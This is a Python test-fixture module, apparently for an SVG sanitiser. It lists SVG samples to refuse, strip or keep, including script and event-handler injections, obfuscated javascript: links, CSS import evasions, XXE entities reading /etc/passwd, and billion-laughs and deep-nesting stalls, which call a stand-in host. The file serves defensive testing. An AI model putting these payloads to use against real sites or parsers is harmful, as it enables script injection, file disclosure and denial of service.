"""Drawings made to run, move, lead away or stall a browser, and honest ones from programs."""

from __future__ import annotations

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'
FAR = "https://evil.test/x"
GO = "window.RAN=1"


def drawing(inside: str, root: str = "", before: str = "") -> str:
    """Return an SVG file."""
    return f'{before}<svg {NS} {HTML} viewBox="0 0 40 30" {root}>{inside}</svg>'


# What each contains must be reported: it is not part of a still picture.
REFUSED = {
    "script": drawing(f"<script>{GO}</script>"),
    "script of a prefix": drawing(
        f'<s:script xmlns:s="http://www.w3.org/2000/svg">{GO}</s:script>'
    ),
    "script by href": drawing(f'<script href="{FAR}"/>'),
    "script by xlink": drawing(f'<script xlink:href="data:text/javascript,{GO}"/>'),
    "script of XHTML": drawing(f"<h:script>{GO}</h:script>"),
    "script in defs": drawing(f"<defs><g><script>{GO}</script></g></defs>"),
    "script in title": drawing(f"<title><script>{GO}</script></title>"),
    "handler": drawing("", f'onload="{GO}"'),
    "handler in capitals": drawing(f'<path ONCLICK="{GO}"/>'),
    "handler of focus": drawing(f'<g tabindex="0" autofocus="" onfocus="{GO}"/>'),
    "handler of animation": drawing(f'<g onbegin="{GO}"/>'),
    "handler in a group": drawing(f'<g><g><rect width="9" height="9" onmouseover="{GO}"/></g></g>'),
    "form": drawing(f'<h:form action="javascript:{GO}"><h:input type="submit"/></h:form>'),
    "button": drawing(f'<h:form><h:button formaction="javascript:{GO}">x</h:button></h:form>'),
    "meta refresh": drawing(f'<h:meta http-equiv="refresh" content="0; url={FAR}"/>'),
    "base": drawing(f'<h:base href="{FAR}"/>'),
    "iframe": drawing(f'<h:iframe src="{FAR}"/>'),
    "iframe with text": drawing(f'<h:iframe srcdoc="&lt;script>{GO}&lt;/script>"/>'),
    "object": drawing(f'<h:object data="{FAR}"/>'),
    "embed": drawing(f'<h:embed src="{FAR}"/>'),
    "image of XHTML": drawing(f'<h:img src="{FAR}"/>'),
    "image with an error": drawing(f'<h:img src="x" onerror="{GO}"/>'),
    "srcset": drawing(f'<h:img srcset="{FAR} 1x"/>'),
    "srcset of a source": drawing(f'<h:picture><h:source srcset="{FAR}"/><h:img/></h:picture>'),
    "link": drawing(f'<h:link rel="stylesheet" href="{FAR}"/>'),
    "imagesrcset": drawing(f'<h:link rel="preload" as="image" imagesrcset="{FAR} 1x"/>'),
    "background": drawing(f'<h:table background="{FAR}"/>'),
    "video": drawing(f'<h:video src="{FAR}" poster="{FAR}"/>'),
    "audio": drawing(f'<h:audio src="{FAR}"/>'),
    "style of XHTML": drawing(f"<h:style>@import '{FAR}';</h:style>"),
    "plain XHTML": drawing("<h:p>Words.</h:p>"),
    "foreignObject": drawing(f"<foreignObject><h:script>{GO}</h:script></foreignObject>"),
    "empty foreignObject": drawing("<foreignObject/>"),
    "MathML": drawing('<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"/>'),
    "an unknown language": drawing('<u:u xmlns:u="urn:u"/>'),
    "an unknown attribute": drawing('<path u:d="x" xmlns:u="urn:u"/>'),
    "XML events": drawing('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events"/>'),
    "handler element": drawing(f'<handler type="text/ecmascript">{GO}</handler>'),
    "link with javascript": drawing(f'<a href="javascript:{GO}"><rect width="9" height="9"/></a>'),
    "link with entities": drawing(f'<a xlink:href="&#106;ava&#x9;script:{GO}"><path/></a>'),
    "link away": drawing(f'<a href="{FAR}"><rect width="40" height="30"/></a>'),
    "animated href": drawing(f'<a><animate attributeName="href" to="javascript:{GO}"/></a>'),
    "set href": drawing(f'<a><set attributeName="xlink:href" to="javascript:{GO}"/></a>'),
    "animateTransform": drawing('<animateTransform attributeName="transform" dur="1s"/>'),
    "animateMotion": drawing('<animateMotion path="M0 0h9"/>'),
    "discard": drawing('<discard begin="1s"/>'),
    "image away": drawing(f'<image href="{FAR}"/>'),
    "image with a photo in it": drawing('<image href="data:image/jpeg;base64,AAAA"/>'),
    "image of a drawing": drawing('<image href="data:image/svg+xml;base64,AAAA"/>'),
    "feImage": drawing(f'<filter id="f"><feImage href="{FAR}"/></filter>'),
    "use away": drawing(f'<use href="{FAR}#a"/>'),
    "use by xlink": drawing(f'<use xlink:href="{FAR}#a"/>'),
    "use of data": drawing('<use href="data:image/svg+xml,x#a"/>'),
    "gradient away": drawing(f'<linearGradient href="{FAR}#a"/>'),
    "textPath away": drawing(f'<text><textPath href="{FAR}#a">x</textPath></text>'),
    "fill": drawing(f'<path fill="url({FAR}#a)"/>'),
    "fill with quotes": drawing(f"<path fill=\"url('{FAR}#a')\"/>"),
    "filter": drawing(f'<path filter="url({FAR}#a)"/>'),
    "mask of the same folder": drawing('<path mask="url(other.svg#a)"/>'),
    "style attribute": drawing(f'<path style="fill: url({FAR})"/>'),
    "style with an escape": drawing(f'<path style="fill:\\75rl({FAR})"/>'),
    "style in capitals": drawing(f'<path style="FILL:URL({FAR})"/>'),
    "style with image-set": drawing(f'<path style="mask:image-set(&quot;{FAR}&quot; 1x)"/>'),
    "style with var": drawing('<path style="fill:var(--a)"/>'),
    "import": drawing(f"<style>@import '{FAR}';</style>"),
    "import with an escape": drawing(f"<style>@\\69mport '{FAR}';</style>"),
    "import with CDATA": drawing(f"<style>@im<![CDATA[port]]> '{FAR}';</style>"),
    "import with a comment": drawing(f"<style>@im<!-- c -->port '{FAR}';</style>"),
    "font-face": drawing(f"<style>@font-face{{font-family:a;src:url({FAR})}}</style>"),
    "keyframes": drawing("<style>@keyframes a{to{opacity:0}}</style>"),
    "media": drawing(f"<style>@media all{{path{{fill:url({FAR})}}}}</style>"),
    "rule with an entity": drawing(f"<style>path{{fill:u&#114;l({FAR})}}</style>"),
    "rule in a rule": drawing(f"<style>path{{&amp; path{{fill:url({FAR})}}}}</style>"),
    "rule with image-set": drawing(f'<style>path{{mask:image-set("{FAR}" 1x)}}</style>'),
    "rule of an attribute": drawing(f"<style>path[d]{{fill:url({FAR})}}</style>"),
    "stylesheet": drawing("", before=f'<?xml-stylesheet href="{FAR}"?>'),
    "stylesheet inside": drawing('<?xml-stylesheet href="#a" type="text/xsl"?>'),
    "entity": drawing("&a;", before='<!DOCTYPE svg [<!ENTITY a "<script/>">]>'),
    "entity of a file": drawing("&a;", before='<!DOCTYPE svg [<!ENTITY a SYSTEM "/etc/passwd">]>'),
    "entity of parameters": drawing("", before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{FAR}">]>'),
    "laughs": drawing("&b;", before='<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>'),
    "many uses": drawing(
        "".join(
            f'<g id="a{n}">{f"<use href=%s#a{n + 1}%s/>" % (chr(34), chr(34)) * 9}</g>'
            for n in range(12)
        )
        + '<path id="a12" d="M0 0h9"/>'
    ),
    "patterns in patterns": drawing(
        "".join(
            f'<pattern id="a{n}">{f"<path fill=%surl(#a{n + 1})%s/>" % (chr(34), chr(34)) * 9}'
            "</pattern>"
            for n in range(12)
        )
    ),
    "a use of itself": drawing('<g id="a"><use href="#a"/></g>'),
    "a use of itself by a class": drawing(
        '<style>.c{fill:url(#a)}</style><pattern id="a"><path class="c"/></pattern>'
    ),
    "too deep": drawing("<g>" * 5000 + "</g>" * 5000),
    "too many": drawing("<g/>" * 60_000),
    "brackets": drawing(f'<path style="fill:{"(" * 50_000}"/>'),
    "functions": drawing(f'<path transform="{"rotate(" * 50_000}"/>'),
}
# Every attribute that runs a script on an event: SVG 2 (section 15.10), the HTML standard ("Global
# event handlers" and those of a window), pointers, touch, the clipboard, animations and selections.
HANDLERS = """
    onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration
    onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste
    onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncancel oncanplay oncanplaythrough
    onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost
    oncontextmenu oncontextrestored oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter
    ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended
    onerror onfocus onfocusin onfocusout onformdata onfullscreenchange onfullscreenerror
    ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange
    onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmessageerror
    onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel
    onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay
    onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout
    onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange
    onrejectionhandled onrepeat onreset onresize onscroll onscrollend onscrollsnapchange
    onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect
    onselectionchange onselectstart onshow onslotchange onstalled onstorage onsubmit onsuspend
    ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel
    ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange
    onwaiting onwebkitanimationend onwebkitanimationiteration onwebkitanimationstart
    onwebkitfullscreenchange onwebkittransitionend onwheel onzoom
""".split()
# What each contains does nothing in a still picture, so it is silently left out.
LEFT_OUT = {
    "metadata": drawing(f"<metadata><h:script>{GO}</h:script></metadata>"),
    "notes of Inkscape": drawing(
        '<s:namedview xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" pagecolor="red">'
        '<i:grid xmlns:i="http://www.inkscape.org/namespaces/inkscape"/></s:namedview>'
    ),
    "data of a program": drawing(f'<g data-name="{FAR}" content="{FAR}" srcset="{FAR}"/>'),
    "cursor": drawing(f'<path cursor="url({FAR}), auto"/>'),
    "animation": drawing('<path style="animation:a 1s;transition:all 1s;background:red"/>'),
    "background": drawing("", f'style="background:url({FAR})"'),
    "base address": drawing("", f'xml:base="{FAR}"'),
    "words where none are": drawing(f"<g>{FAR}</g>"),
    "a style that ends early": drawing("<style>.a{fill:red}&lt;/style>&lt;script></style>"),
}
# As programs write them: what is visible stays.
HONEST = {
    "Inkscape": """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5"
   inkscape:version="1.2.2" sodipodi:docname="a.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="n" pagecolor="#ffffff" inkscape:zoom="0.7"/>
  <defs id="defs2">
    <linearGradient id="g1"><stop style="stop-color:#00f;stop-opacity:1" offset="0"/>
    </linearGradient>
    <linearGradient xlink:href="#g1" id="g2" gradientUnits="userSpaceOnUse"/></defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <path style="fill:url(#g2);stroke:#000;stroke-width:0.26;-inkscape-stroke:none" d="M 0,0 H 9"
      sodipodi:nodetypes="cc"/>
    <text xml:space="preserve" style="font-size:10px;font-family:'Open Sans'"><tspan
      sodipodi:role="line" x="1" y="2">School</tspan></text></g></svg>""",
    "Illustrator": """<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 512 512"
 style="enable-background:new 0 0 512 512;" xml:space="preserve">
<style type="text/css">
	.st0{fill:#FFFFFF;stroke:#231F20;stroke-miterlimit:10;}
	.st1{clip-path:url(#SVGID_2_);fill:none;}
</style>
<g><defs><rect id="SVGID_1_" width="512" height="512"/></defs>
<clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_" style="overflow:visible;"/></clipPath>
<path class="st0 st1" d="M0,0h9"/></g></svg>""",
    "Figma": """<svg width="24" height="24" viewBox="0 0 24 24" fill="none"
 xmlns="http://www.w3.org/2000/svg">
<g clip-path="url(#clip0_1_2)" filter="url(#f)"><path fill-rule="evenodd" clip-rule="evenodd"
 d="M0 0H9" fill="#1E1E1E" style="mix-blend-mode:multiply"/></g>
<defs><clipPath id="clip0_1_2"><rect width="24" height="24" fill="white"
 transform="translate(1 2)"/></clipPath><filter id="f" x="0" y="0" width="9" height="9"
 filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0"
 result="b"/><feGaussianBlur stdDeviation="2"/></filter></defs></svg>""",
}
